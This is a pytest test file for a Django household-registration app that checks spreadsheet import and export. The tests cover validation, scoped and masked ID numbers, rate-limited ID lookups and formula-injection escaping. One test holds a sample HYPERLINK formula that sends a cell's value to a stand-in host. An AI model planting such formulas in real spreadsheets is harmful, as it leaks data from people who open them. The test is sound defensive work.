import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from tests.factories import grant_reveal, next_id_number
from tests.spreadsheets import RowCounter, million_rows, truncated, workbook_upload
from xiangzhi.lib import crypto
from xiangzhi.people.models import Household, IdentitySearch, Resident
from xiangzhi.people.services import ResidentInput, household_create
from xiangzhi.people.xlsx import (
    COLUMNS,
    ELSEWHERE_ID,
    ELSEWHERE_NUMBER,
    ID_CLASH_HIDDEN,
    households_export,
    households_import,
)


def workbook(rows, header=COLUMNS) -> SimpleUploadedFile:
    return workbook_upload("households.xlsx", header, rows)


def row(grid, number, name, relation, id_number=None, phone="", tags="", away="否"):
    return [grid.code, number, "东村2组8号", name, relation, id_number or next_id_number(), phone, tags, away]


@pytest.mark.django_db
def test_a_good_file_imports_households_with_encrypted_ids(county):
    grid = county.grid_a1
    f = workbook([
        row(grid, "H-1", "孙立新", "户主", phone="13912345678", tags="党员、退役军人"),
        row(grid, "H-1", "周桂兰", "配偶"),
        row(grid, "H-2", "吴大勇", "户主", away="是"),
    ])
    result = households_import(user=county.users["village_cadre"], file=f)
    assert result.ok, result.errors
    assert (result.households, result.residents) == (2, 3)
    head = Resident.objects.get(name="孙立新")
    assert head.household.head_name == "孙立新"
    assert head.tag_list == ["party_member", "veteran"]
    assert head.phone_masked == "139****5678"
    assert Resident.objects.get(name="吴大勇").is_away


def assert_nothing_written(before_households, before_residents):
    assert Household.objects.count() == before_households
    assert Resident.objects.count() == before_residents


@pytest.mark.django_db
def test_bad_rows_import_nothing_and_are_reported_by_row_and_column(county):
    grid = county.grid_a1
    dup = next_id_number()
    before = Household.objects.count(), Resident.objects.count()
    f = workbook([
        row(grid, "H-1", "孙立新", "户主", id_number=dup),
        row(grid, "H-1", "周桂兰", "配偶", id_number="371603198802291370"),   # bad check digit
        row(grid, "H-1", "孙小明", "子女", id_number=dup),                    # duplicate in the file
        row(county.grid_b1, "H-2", "赵四", "户主"),                            # grid outside the cadre's village
        ["999999999999999", "H-3", "", "钱五", "户主", next_id_number(), "", "", "否"],  # unknown grid
        row(grid, "H-4", "李六", "舅舅"),                                        # unknown relation
        row(grid, "H-5", "陈七", "户主", phone="12345", tags="富豪"),
    ])
    result = households_import(user=county.users["village_cadre"], file=f)
    assert not result.ok
    found = {(e.row, e.column): e.message for e in result.errors}
    assert "校验位不正确" in found[(3, "身份证号")]
    assert found[(4, "身份证号")] == "身份证号与第 2 行重复"
    assert "不存在或不在您的管辖范围内" in found[(5, "网格编码")]
    assert "不存在或不在您的管辖范围内" in found[(6, "网格编码")]
    assert "与户主关系应为" in found[(7, "与户主关系")]
    assert "11位数字" in found[(8, "手机号")]
    assert "未知的标签“富豪”" in found[(8, "标签")]
    assert_nothing_written(*before)


@pytest.mark.django_db
def test_a_household_needs_exactly_one_head(county):
    grid = county.grid_a1
    result = households_import(user=county.users["village_cadre"], file=workbook([
        row(grid, "H-1", "孙立新", "配偶"),
        row(grid, "H-2", "甲", "户主"), row(grid, "H-2", "乙", "户主"),
    ]))
    messages = [e.message for e in result.errors]
    assert any("H-1 没有户主" in m for m in messages)
    assert any("H-2 有 2 名户主" in m for m in messages)


@pytest.mark.django_db
def test_an_id_or_number_taken_inside_the_importers_scope_names_the_household(county):
    """For a clerk who may reveal ID numbers anyway."""
    existing = county.households["a1"]
    plain = crypto.decrypt(existing.residents.first().id_number_encrypted)
    before = Household.objects.count(), Resident.objects.count()
    result = households_import(user=grant_reveal(county.users["township_staff"]), file=workbook([
        row(county.grid_a1, existing.number, "某人", "户主"),
        row(county.grid_a1, "H-9", "另一人", "户主", id_number=plain),
    ]))
    messages = {(e.row, e.column): e.message for e in result.errors}
    assert messages == {  # a new member of a registered household, and a move: both for the household page
        (2, "身份证号"): f"户编号 {existing.number} 已登记（张建国户），本行的人不是该户成员；"
                         "新增成员请在户页面登记出生、婚入或迁入",
        (3, "身份证号"): f"该居民登记在张建国户（户编号 {existing.number}），与本行的户编号不同；"
                         "户与户之间的迁移请在户页面办理迁入或迁出，不能通过导入更正",
    }
    assert_nothing_written(*before)


@pytest.mark.django_db
def test_a_clash_outside_the_importers_scope_gets_one_generic_message_and_nothing_about_whom(client, county):
    """下洼镇's clerk uses an ID number and a household number registered in 古城镇: the same words as for a
    clash in the next village, and nothing of 古城镇's household anywhere in the answer."""
    theirs = county.households["b1"]
    their_id = crypto.decrypt(theirs.residents.first().id_number_encrypted)
    near = county.households["a2"]  # 西村: also outside a 东村 cadre's scope
    near_id = crypto.decrypt(near.residents.first().id_number_encrypted)
    before = Household.objects.count(), Resident.objects.count()

    clerk = grant_reveal(county.users["township_staff"])
    result = households_import(user=clerk, file=workbook([
        row(county.grid_a1, "H-1", "孙立新", "户主", id_number=their_id),
        row(county.grid_a1, theirs.number, "周桂兰", "户主"),
    ]))
    assert [(e.row, e.column, e.message) for e in result.errors] == [
        (2, "身份证号", ELSEWHERE_ID), (3, "户编号", ELSEWHERE_NUMBER),
    ]
    assert ELSEWHERE_ID == "该身份证号已在其他地方登记，无法导入；请联系上级核实"
    next_village = households_import(user=grant_reveal(county.users["village_cadre"]), file=workbook([
        row(county.grid_a1, "H-1", "孙立新", "户主", id_number=near_id),
        row(county.grid_a1, near.number, "周桂兰", "户主"),
    ]))
    assert [e.message for e in next_village.errors] == [e.message for e in result.errors]
    assert_nothing_written(*before)

    client.force_login(clerk)
    response = client.post("/people/import/", {"file": workbook([
        row(county.grid_a1, "H-1", "孙立新", "户主", id_number=their_id),
        row(county.grid_a1, theirs.number, "周桂兰", "户主"),
    ])})
    page = response.content.decode()
    assert response.status_code == 200 and ELSEWHERE_ID in page and ELSEWHERE_NUMBER in page
    for leak in (theirs.number, theirs.head_name, county.grid_b1.code, county.grid_b1.name, county.village_b1.name,
                 county.town_b.name, "赵"):
        assert leak not in page, leak
    assert_nothing_written(*before)


@pytest.mark.django_db
def test_without_the_reveal_permission_an_import_never_says_which_id_numbers_are_registered(client, county, settings):
    """A file of every ID number a mask allows must not finish the mask: the clerk learns how many of
    the file's numbers are registered, not which, and each such import is recorded and counted like a
    search by full number."""
    settings.IDENTITY_SEARCH_PER_HOUR = 2
    clerk = county.users["township_staff"]
    registered = crypto.decrypt(county.households["a1"].residents.first().id_number_encrypted)
    candidates = [next_id_number() for _ in range(5)] + [registered]
    rows = [row(county.grid_a1, f"H-{i}", f"候选{i}", "户主", id_number=v) for i, v in enumerate(candidates)]
    before = Household.objects.count(), Resident.objects.count()

    result = households_import(user=clerk, file=workbook(rows))
    assert [(e.row, e.column, e.message) for e in result.errors] == [(None, "身份证号", ID_CLASH_HIDDEN.format(n=1))]
    assert_nothing_written(*before)
    (audit,) = IdentitySearch.objects.filter(user=clerk)
    assert (audit.kind, audit.outcome, audit.matched, audit.value_hash) == ("import", "searched", 1, "")

    client.force_login(clerk)
    page = client.post("/people/import/", {"file": workbook(rows)}).content.decode()
    assert "<td>—</td><td>身份证号</td><td>文件中有 1 个身份证号已经登记" in page and "张建国" not in page
    # The hour's two lookups are spent: the next import is refused before any number is looked at.
    third = households_import(user=clerk, file=workbook(rows[:1]))
    assert [e.message for e in third.errors] == ["本小时按身份证号查重的次数已用完（每小时最多 2 次），请稍后再导入"]
    assert list(IdentitySearch.objects.filter(user=clerk).order_by("id").values_list("outcome", flat=True)) == [
        "searched", "searched", "limited"]
    assert_nothing_written(*before)


@pytest.mark.django_db
def test_a_file_that_is_not_xlsx_gets_a_clear_error(county):
    fake = SimpleUploadedFile("households.xlsx", b"%PDF-1.4 not a spreadsheet")
    result = households_import(user=county.users["village_cadre"], file=fake)
    assert result.errors[0].message.startswith("文件不是有效的 .xlsx 文件")


@pytest.mark.django_db
def test_a_million_row_sheet_is_refused_at_the_limit_without_reading_the_rest(county, settings, monkeypatch):
    settings.HOUSEHOLD_IMPORT_MAX_ROWS = 500
    before = Household.objects.count(), Resident.objects.count()
    counter = RowCounter(monkeypatch)
    result = households_import(user=county.users["village_cadre"],
                               file=SimpleUploadedFile("big.xlsx", million_rows(COLUMNS)))
    assert [(e.row, e.message) for e in result.errors] == [(502, "文件超过 500 行，请分批导入")]
    assert counter.rows == 502
    assert_nothing_written(*before)


@pytest.mark.django_db
def test_a_sheet_with_broken_xml_gets_the_clear_error_on_the_page(client, county):
    before = Household.objects.count(), Resident.objects.count()
    grid = county.grid_a1
    broken = truncated(COLUMNS, [row(grid, "H-1", "孙立新", "户主"), row(grid, "H-2", "吴大勇", "户主")])
    client.force_login(county.users["village_cadre"])
    response = client.post("/people/import/", {"file": SimpleUploadedFile("households.xlsx", broken)})
    assert response.status_code == 200
    assert "文件不是有效的 .xlsx 文件" in response.content.decode()
    assert_nothing_written(*before)


@pytest.mark.django_db
def test_export_writes_formula_like_values_as_text(county):
    dangerous = ["=HYPERLINK(\"http://x.example/?\"&F2,\"点我\")", "+1+2", "-3+4", "@SUM(A1)"]
    household_create(
        grid=county.grid_a1, address="\t=1+1",
        residents=[ResidentInput(name=dangerous[0], id_number=next_id_number(), relation="head", phone="13800138001")]
        + [ResidentInput(name=n, id_number=next_id_number(), relation="child") for n in dangerous[1:]],
    )
    content = households_export(user=county.users["village_cadre"])
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {row[3].value: row for row in sheet.iter_rows(min_row=2)}
    for name in dangerous:
        name_cell, address_cell = cells[name][3], cells[name][2]
        assert (name_cell.data_type, name_cell.quotePrefix) == ("s", True)
        assert (address_cell.value, address_cell.data_type, address_cell.quotePrefix) == ("\t=1+1", "s", True)
    for row_cells in cells.values():  # identifiers are text cells in text format
        for i in (0, 1, 5, 6):
            if row_cells[i].value is not None:
                assert (row_cells[i].data_type, row_cells[i].number_format) == ("s", "@")


@pytest.mark.django_db
def test_the_template_holds_identifiers_as_text_and_imports(county):
    from xiangzhi.people.xlsx import template

    sheet = load_workbook(io.BytesIO(template())).active
    assert [c.value for c in sheet[1]] == COLUMNS
    example = sheet[2]
    assert all((example[i].data_type, example[i].number_format) == ("s", "@") for i in (0, 1, 5, 6))


@pytest.mark.django_db
def test_a_numeric_id_cell_is_refused_because_excel_loses_digits(county):
    result = households_import(user=county.users["village_cadre"], file=workbook([
        [county.grid_a1.code, "H-1", "", "孙立新", "户主", 371603198802291371, "", "", "否"],
    ]))
    assert "文本格式" in result.errors[0].message


@pytest.mark.django_db
def test_missing_columns_are_named(county):
    result = households_import(user=county.users["village_cadre"], file=workbook([], header=["姓名"]))
    assert "网格编码" in result.errors[0].message and "身份证号" in result.errors[0].message


@pytest.mark.django_db
def test_export_holds_the_scope_only_and_masks_ids(county):
    content = households_export(user=county.users["grid_worker"])
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    numbers = {r[1] for r in rows[1:]}
    assert numbers == {county.households["a1"].number, county.households["a1_micro"].number}
    assert all("*" in r[5] for r in rows[1:])


@pytest.mark.django_db
def test_import_page_shows_the_error_report(client, county):
    client.force_login(county.users["village_cadre"])
    bad = workbook([row(county.grid_a1, "H-1", "孙立新", "户主", id_number="371603198802291370")])
    response = client.post("/people/import/", {"file": bad})
    page = response.content.decode()
    assert response.status_code == 200
    assert "未导入任何数据" in page and "校验位不正确" in page
    good = workbook([row(county.grid_a1, "H-1", "孙立新", "户主")])
    assert "导入成功：1 户，1 人" in client.post("/people/import/", {"file": good}, follow=True).content.decode()
    assert client.get("/people/export.xlsx").status_code == 200
    assert client.get("/people/import/template.xlsx").status_code == 200
